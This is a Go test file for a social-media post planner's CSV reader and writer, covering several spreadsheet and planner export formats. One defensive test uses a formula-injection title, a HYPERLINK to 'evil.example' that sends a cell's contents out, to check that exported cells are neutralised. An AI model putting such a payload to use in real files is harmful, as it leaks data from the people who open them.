package csvplan_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"postplan/calendar"
	"postplan/calendar/csvplan"
)

var team = csvplan.Options{
	Zone:      "Europe/Copenhagen",
	Members:   []calendar.Member{{ID: "01MEMBERANNA", Name: "Anna Nielsen", Email: "anna@example.com"}},
	Campaigns: []calendar.Campaign{{Tag: "spring", Name: "Spring", Colour: "#047857"}},
}

func read(t *testing.T, text string) *csvplan.Result {
	t.Helper()
	res, err := csvplan.Read(strings.NewReader(text), team)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func problems(res *csvplan.Result) []string {
	var out []string
	for _, r := range res.Rows {
		if !r.OK() {
			out = append(out, strings.Split(r.String(), "\n")...)
		}
	}
	return out
}

func TestRoundTripKeepsEveryColumn(t *testing.T) {
	posts := []*calendar.Post{
		{ID: "01AAA", Title: "Launch, \"big\" day", Body: "Line one\nLine two with æøå and 🎉", Channels: []string{"Instagram", "LinkedIn"},
			Start: calendar.Wall(2026, 3, 31, 14, 30, 0), TimeZone: "Europe/Stockholm", Duration: 45 * time.Minute,
			Status: calendar.StatusScheduled, Assignee: "01MEMBERANNA", Tags: []string{"spring"}, Notes: "check; twice",
			Link: "https://example.com/a?b=1,2", Media: []string{"/home/a/pic, 1.png", "/home/a/clip.mp4"},
			Recurrence: &calendar.Recurrence{Rule: "FREQ=WEEKLY;BYDAY=TU,TH;COUNT=10"}},
		{ID: "01BBB", Title: "All day", Channels: []string{"Facebook"}, Start: calendar.Wall(2026, 4, 1, 0, 0, 0), AllDay: true,
			TimeZone: "Europe/Copenhagen", Status: calendar.StatusDraft, Tags: []string{}, Media: []string{}},
		{ID: "01CCC", Title: "An idea", Channels: []string{}, TimeZone: "Europe/Copenhagen", Status: calendar.StatusIdea,
			Tags: []string{}, Media: []string{}},
	}
	var buf bytes.Buffer
	if err := csvplan.Write(&buf, posts, team.Members, 0); err != nil {
		t.Fatal(err)
	}
	res := read(t, buf.String())
	if p := problems(res); len(p) > 0 {
		t.Fatalf("export does not read back: %v", p)
	}
	got := res.Valid()
	if diff := cmp.Diff(posts, got, cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("round trip changed posts (-wrote +read):\n%s", diff)
	}
	var again bytes.Buffer
	if err := csvplan.Write(&again, got, team.Members, 0); err != nil {
		t.Fatal(err)
	}
	if again.String() != buf.String() {
		t.Errorf("second export differs from the first")
	}
}

func TestEveryProblemIsNamedByRowAndColumn(t *testing.T) {
	text := "Date,Time,Title,Channels,Status,Assignee,Time zone,Minutes,Link,Campaigns\n" +
		"2026-03-02,09:00,Fine,Instagram,ready,Anna Nielsen,,,,spring\n" +
		"2026-03-02,25:00,Bad time,Instagram,,,,,,\n" +
		"31/02/2026,09:00,Bad date,Instagram,,,,,,\n" +
		"2026-03-03,09:00,Bad status,Instagram,maybe,,,,,\n" +
		"2026-03-03,11:00,Where,Instagram,,,Mars/Base,,,\n" +
		"2026-03-03,12:00,Long,Instagram,,,,lots,,\n" +
		"2026-03-03,13:00,Link,Instagram,,,,,not a link,\n" +
		",09:00,No date,Instagram,,,,,,\n" +
		"2026-03-02,09:00,Fine,Instagram,ready,,,,,\n"
	res := read(t, text)
	want := []string{
		`row 3, Time: "25:00" is not a time; write it as 14:30.`,
		`row 4, Date: "31/02/2026" is not a date; write it as 2026-03-31 or 31.3.2026.`,
		`row 5, Status: "maybe" is not a status; use one of idea, draft, ready, scheduled, published, cancelled.`,
		`row 6, Time zone: "Mars/Base" is not a time zone; use a name such as Europe/Copenhagen.`,
		`row 7, Minutes: "lots" is not a number of minutes.`,
		`row 8, Link: Link "not a link" is not a web address.`,
		`row 9, Time: A time needs a date.`,
		`row 10: The row repeats row 2 (the same ID, or date, time, title and channels).`,
	}
	if diff := cmp.Diff(want, problems(res)); diff != "" {
		t.Errorf("problems (-want +got):\n%s", diff)
	}
	if n := len(res.Valid()); n != 1 {
		t.Errorf("%d valid rows, want 1", n)
	}
}

func TestDanishExcelFileWithSemicolons(t *testing.T) {
	text := "\uFEFFDato;Klokkeslæt;Kanaler;Titel;Tekst;Kampagner;Status;Ansvarlig;Noter\r\n" +
		"31.3.2026;14.30;Instagram, Facebook;Påskekonkurrence;\"Vind; en kurv\";#påske;planlagt;anna@example.com;Husk billeder\r\n"
	res := read(t, text)
	if p := problems(res); len(p) > 0 {
		t.Fatal(p)
	}
	p := res.Valid()[0]
	if !p.Start.Equal(calendar.Wall(2026, 3, 31, 14, 30, 0)) || p.TimeZone != "Europe/Copenhagen" || p.Status != calendar.StatusScheduled ||
		p.Body != "Vind; en kurv" || p.Assignee != "01MEMBERANNA" || strings.Join(p.Channels, "|") != "Instagram|Facebook" {
		t.Errorf("read %+v", p)
	}
	if len(res.Campaigns) != 1 || res.Campaigns[0].Tag != "påske" || len(res.Members) != 0 {
		t.Errorf("new campaigns %+v, want påske", res.Campaigns)
	}
}

// Some programs end a row at its last filled cell, so a row can be
// shorter than the header: its missing cells are empty, whatever the row
// before it held there.
func TestARowCutShortTakesNothingFromTheRowBefore(t *testing.T) {
	res := read(t, "Date,Time,Channels,Title,Campaigns,Notes\n"+
		"2026-04-01,09:00,LinkedIn,Launch,#spring,Bring cake\n"+
		"2026-04-02,10:00,Instagram,Teaser\n")
	if p := problems(res); len(p) > 0 {
		t.Fatal(p)
	}
	posts := res.Valid()
	if len(posts) != 2 || strings.Join(posts[0].Tags, "|") != "spring" || posts[0].Notes != "Bring cake" {
		t.Fatalf("the full row read as %+v", posts[0])
	}
	if p := posts[1]; len(p.Tags) != 0 || p.Notes != "" || p.Title != "Teaser" || strings.Join(p.Channels, "|") != "Instagram" {
		t.Errorf("the short row read as tags %q, notes %q, title %q, channels %q", p.Tags, p.Notes, p.Title, p.Channels)
	}
}

// Excel for Mac's "CSV (Macintosh)" ends lines with a carriage return
// alone; a line break inside a cell is one too.
func TestAMacCSVFileWithCarriageReturns(t *testing.T) {
	res := read(t, "Date,Time,Channels,Title,Text\r2026-12-01,09:00,LinkedIn,Mac-række 1,Tekst\r"+
		"2026-12-02,10:00,Instagram,Mac-række 2,\"Linje 1\rLinje 2\"\r")
	if p := problems(res); len(p) > 0 {
		t.Fatal(p)
	}
	posts := res.Valid()
	if len(posts) != 2 || posts[0].Title != "Mac-række 1" || posts[1].Body != "Linje 1\nLinje 2" ||
		!posts[1].Start.Equal(calendar.Wall(2026, 12, 2, 10, 0, 0)) {
		t.Fatalf("read %d posts: %+v", len(posts), posts)
	}
}

// Members a CSV file brought keep their IDs: calendar.MemberFor makes
// them as this package did (from the row ID of the name).
func TestMembersMadeFromNamesKeepTheirIDs(t *testing.T) {
	for _, name := range []string{"Zed", "anna@example.com", "  Björn Lind "} {
		if got, was := calendar.MemberFor(name).ID, csvplan.RowIDFor("member", "", strings.ToLower(name), ""); got != was {
			t.Errorf("%q: %s, was %s", name, got, was)
		}
	}
}

func TestUnknownAssigneesJoinTheTeamOnce(t *testing.T) {
	res := read(t, "Title,Assignee\nA,Zed\nB,zed\nC,Anna Nielsen\n")
	posts := res.Valid()
	if len(res.Members) != 1 || res.Members[0].Name != "Zed" || posts[0].Assignee != res.Members[0].ID ||
		posts[1].Assignee != res.Members[0].ID || posts[2].Assignee != "01MEMBERANNA" {
		t.Fatalf("members %+v, assignees %s %s %s", res.Members, posts[0].Assignee, posts[1].Assignee, posts[2].Assignee)
	}
	if again := read(t, "Title,Assignee\nA,Zed\n"); again.Members[0].ID != res.Members[0].ID {
		t.Error("the same name read again is another member")
	}
}

func TestBufferFileWithTextOnlyGetsTitlesAndStableIDs(t *testing.T) {
	text := "Text,Posting Time\n\"Spring is here!\nMore below\",\n"
	a, b := read(t, text), read(t, text)
	p := a.Valid()[0]
	if p.Title != "Spring is here!" || p.Status != calendar.StatusIdea || p.Dated() {
		t.Errorf("read %+v", p)
	}
	if p.ID != b.Valid()[0].ID {
		t.Errorf("the same row read twice got IDs %s and %s", p.ID, b.Valid()[0].ID)
	}
}

func TestFileProblems(t *testing.T) {
	for name, tc := range map[string]struct{ text, want string }{
		"empty":       {"  \n", "The file is empty."},
		"no header":   {"2026-03-02,09:00,x\n", "The first row is not a header with a Title or Text column; the columns are ID, Date, Time, Time zone, Minutes, Channels, Title, Text, Campaigns, Status, Assignee, Link, Notes, Media, Repeat."},
		"header only": {"Title,Date\n", "The file has a header but no rows."},
		"twice":       {"Title,Titel\nx,y\n", `The header names the column "Title" twice.`},
		"bad quote":   {"Title,Date\n\"open,2026-01-01\n", "Line 2 is not valid CSV: extraneous or missing \" in quoted-field."},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := csvplan.Read(strings.NewReader(tc.text), team)
			if err == nil || calendar.ErrorMessage(err) != tc.want {
				t.Errorf("got %v, want %q", err, tc.want)
			}
		})
	}
}

func FuzzRead(f *testing.F) {
	f.Add("Date,Time,Title,Channels\n2026-03-02,09:00,Hello,Instagram\n")
	f.Add("Dato;Tid;Titel\n31.3.2026;14.30;Hej\n")
	f.Add("Text\n\"a\nb\"\n")
	f.Fuzz(func(t *testing.T, text string) {
		// A file that takes seconds to read would hang the app: a failure.
		var res *csvplan.Result
		var err error
		done := make(chan struct{})
		go func() {
			defer close(done)
			res, err = csvplan.Read(strings.NewReader(text), team)
		}()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Fatalf("reading %d bytes took over 10 s", len(text))
		}
		if err != nil {
			if calendar.ErrorCode(err) != calendar.EINVALID {
				t.Fatalf("a file problem that is not invalid input: %v", err)
			}
			return
		}
		for _, p := range res.Valid() {
			if p.ID == "" || p.Title == "" {
				t.Fatalf("a valid row without ID or title: %+v", p)
			}
		}
	})
}

// TestFormulasAreDefused: a cell a spreadsheet would run (a title
// "=HYPERLINK(...)", a text starting "+45", notes starting "-") is written
// with a leading apostrophe, so Excel and LibreOffice show it as text, and
// reading our own file gives the post back unchanged. A file with another
// header keeps its apostrophes: they are the writer's.
func TestFormulasAreDefused(t *testing.T) {
	p := &calendar.Post{ID: "01FORMULA", Title: `=HYPERLINK("https://evil.example/?q="&A1,"click")`, Body: "+45 12 34 56 78 ring os",
		Notes: "-- intern note", Link: "https://example.com/a", Channels: []string{"Facebook"}, Tags: []string{"@home"},
		Start: calendar.Wall(2026, 12, 1, 9, 0, 0), TimeZone: "Europe/Copenhagen", Status: calendar.StatusDraft, Media: []string{"@assets/launch.png"}}
	var buf bytes.Buffer
	if err := csvplan.Write(&buf, []*calendar.Post{p}, nil, 0); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s starts with %q: a spreadsheet would run it", rows[0][i], cell[:1])
		}
	}
	res, err := csvplan.Read(bytes.NewReader(buf.Bytes()), csvplan.Options{Zone: "Europe/Copenhagen",
		Campaigns: []calendar.Campaign{{Tag: "@home", Name: "Home", Colour: "#123456"}}})
	if err != nil {
		t.Fatal(err)
	}
	got := res.Rows[0].Post
	if !res.Rows[0].OK() || got.Title != p.Title || got.Body != p.Body || got.Notes != p.Notes || got.Tags[0] != "@home" || got.Media[0] != "@assets/launch.png" {
		t.Fatalf("read back: %+v (%v)", got, res.Rows[0].Errors)
	}
	foreign := "Title,Text\n'=not ours,'+45 kept\n"
	res, err = csvplan.Read(strings.NewReader(foreign), csvplan.Options{Zone: "Europe/Copenhagen"})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Rows[0].Post; got.Title != "'=not ours" || got.Body != "'+45 kept" {
		t.Errorf("another program's file lost its apostrophes: %q %q", got.Title, got.Body)
	}
}

// A date and its time in one cell, as spreadsheets, Publer and SocialBee
// write them, is the date and the time; a Time column that says otherwise
// is a problem at that row's Time.
func TestADateCellWithItsTime(t *testing.T) {
	res := read(t, "Publish date,Post text,Time\n"+
		"31.03.2026 09:30,Forår,\n"+
		"2026-04-01T14:00:00,Webinar,\n"+
		"2026-04-02 08:15,Blog,08:15\n"+
		"2026-04-03 08:15,Podcast,09:00\n")
	var starts []string
	for _, p := range res.Valid() {
		starts = append(starts, p.Start.Format("2006-01-02 15:04"))
	}
	if want := []string{"2026-03-31 09:30", "2026-04-01 14:00", "2026-04-02 08:15"}; !slices.Equal(starts, want) {
		t.Errorf("starts %q, want %q", starts, want)
	}
	if got := problems(res); len(got) != 1 || !strings.Contains(got[0], `row 5, Time: "09:00" differs from the time in the date, "08:15"`) {
		t.Errorf("problems %q", got)
	}
}

// Hootsuite's bulk scheduling files have no header row: a date and time,
// the text (a LinkedIn post's length, with commas and line breaks) and a
// link. Each row is a post from row 1 on, with the same IDs when read again.
func TestAHootsuiteFileWithoutAHeader(t *testing.T) {
	long := strings.Repeat("Vi har planlagt forårets kampagne, og her er hvad I kan forvente. ", 45)
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.WriteAll([][]string{
		{"31/03/2026 09:30", "Forårets kampagne starter i dag!\n\n" + long, "https://example.com/foraar"},
		{"01/04/2026 14:00", "Husk webinaret i morgen", ""},
		{"02/04/2026 08:15", "Ny blog: fem råd"},
		{"03/04/2026 08:15", "For mange celler", "https://example.com", "ekstra"},
	})
	a, again := read(t, b.String()), read(t, b.String())
	valid := a.Valid()
	if len(a.Rows) != 4 || len(valid) != 3 || a.Rows[0].Number != 1 {
		t.Fatalf("%d rows (the first numbered %d), %d valid; problems %q", len(a.Rows), a.Rows[0].Number, len(valid), problems(a))
	}
	p := valid[0]
	if p.Title != "Forårets kampagne starter i dag!" || !strings.HasSuffix(p.Body, long) || p.Link != "https://example.com/foraar" ||
		p.Start.Format("2006-01-02 15:04") != "2026-03-31 09:30" || p.TimeZone != "Europe/Copenhagen" {
		t.Errorf("read %q at %s in %s, link %q, a text of %d characters", p.Title, p.Start, p.TimeZone, p.Link, len([]rune(p.Body)))
	}
	for i, q := range valid {
		if q.ID != again.Valid()[i].ID {
			t.Errorf("row %d got IDs %s and %s", i+1, q.ID, again.Valid()[i].ID)
		}
	}
	if got := problems(a); len(got) != 1 || !strings.HasPrefix(got[0], "row 4: The row has 4 cells; a file without a header row has at most 3") {
		t.Errorf("problems %q", got)
	}
}

// Other planners' bulk files, each in the shape its help pages give: the
// date and time in one cell under the planner's own header, in the time
// column (Buffer), year first with slashes (Publer), in UTC (Ayrshare).
func TestOtherPlannersBulkFiles(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"Buffer", "Text,Image URL,Tags,Posting Time\nForår på vej,,spring,2026-03-31 09:30\n", "2026-03-31 09:30 Europe/Copenhagen"},
		{"Publer", "Date,Message,Link\n2026/03/31 09:30,Forår på vej,https://example.com\n", "2026-03-31 09:30 Europe/Copenhagen"},
		{"SocialBee", "postAtSpecificTime,content,imageUrls\n2026-03-31 09:30:00,Forår på vej,\n", "2026-03-31 09:30 Europe/Copenhagen"},
		{"Ayrshare", "post,platforms,mediaUrls,scheduleDate\nForår på vej,\"linkedin, instagram\",,2026-07-08T12:30:00Z\n", "2026-07-08 14:30 Europe/Copenhagen"},
		{"UTC in a zone of the row's", "Date,Time zone,Title\n2026-01-08T12:30:00Z,America/New_York,Forår\n", "2026-01-08 07:30 America/New_York"},
	} {
		t.Run(c.name, func(t *testing.T) {
			res := read(t, c.text)
			if got := problems(res); len(got) > 0 {
				t.Fatalf("problems %q", got)
			}
			p := res.Valid()[0]
			if got := p.Start.Format("2006-01-02 15:04") + " " + p.TimeZone; got != c.want || p.AllDay {
				t.Errorf("starts %s (all day: %v), want %s", got, p.AllDay, c.want)
			}
		})
	}
}

// A file made for Excel may name its separator on a first line, "sep=;",
// which Excel reads and does not show: the header is the row after it.
func TestAnExcelSeparatorLine(t *testing.T) {
	for _, text := range []string{
		"sep=;\r\nDato;Klokkeslæt;Titel\r\n31.03.2026;09:30;Forår, sol og kaffe\r\n",
		"SEP=,\nTitle,Date,Time\n\"Forår, sol og kaffe\",2026-03-31,09:30\n",
	} {
		res := read(t, text)
		if got := problems(res); len(got) > 0 || len(res.Valid()) != 1 {
			t.Fatalf("%q: problems %q", text, got)
		}
		if p := res.Valid()[0]; p.Title != "Forår, sol og kaffe" || p.Start.Format("2006-01-02 15:04") != "2026-03-31 09:30" || res.Rows[0].Number != 2 {
			t.Errorf("%q: read %q at %s, row %d", text, p.Title, p.Start, res.Rows[0].Number)
		}
	}
}

// A Notion database exported as CSV: the title in "Name", dates as Notion
// shows them ("March 31, 2026 9:30 AM", a range "… → …" whose start is the
// post's), its default statuses, a platform column and columns Postplan
// does not read.
func TestANotionExport(t *testing.T) {
	res := read(t, "Name,Publish Date,Status,Platform,Tags,Files & media\n"+
		"Forårskampagne teaser,\"March 31, 2026 9:30 AM\",In progress,\"LinkedIn, Instagram\",#spring,\n"+
		"Blogindlæg,\"April 2, 2026\",Not started,LinkedIn,,\n"+
		"Webinar recap,\"April 7, 2026 2:00 PM → April 7, 2026 3:00 PM\",Done,LinkedIn,,\n")
	if got := problems(res); len(got) > 0 {
		t.Fatalf("problems %q", got)
	}
	var got []string
	for _, p := range res.Valid() {
		start := p.Start.Format("2006-01-02 15:04")
		if p.AllDay {
			start = p.Start.Format("2006-01-02") + " all day"
		}
		got = append(got, fmt.Sprintf("%s | %s | %s | %s", p.Title, start, p.Status, strings.Join(p.Channels, "+")))
	}
	want := []string{
		"Forårskampagne teaser | 2026-03-31 09:30 | draft | LinkedIn+Instagram",
		"Blogindlæg | 2026-04-02 all day | idea | LinkedIn",
		"Webinar recap | 2026-04-07 14:00 | published | LinkedIn",
	}
	if !slices.Equal(got, want) {
		t.Errorf("read\n %q\nwant\n %q", got, want)
	}
	if !slices.Equal(res.Ignored, []string{"Files & media"}) {
		t.Errorf("columns not read: %q", res.Ignored)
	}
}
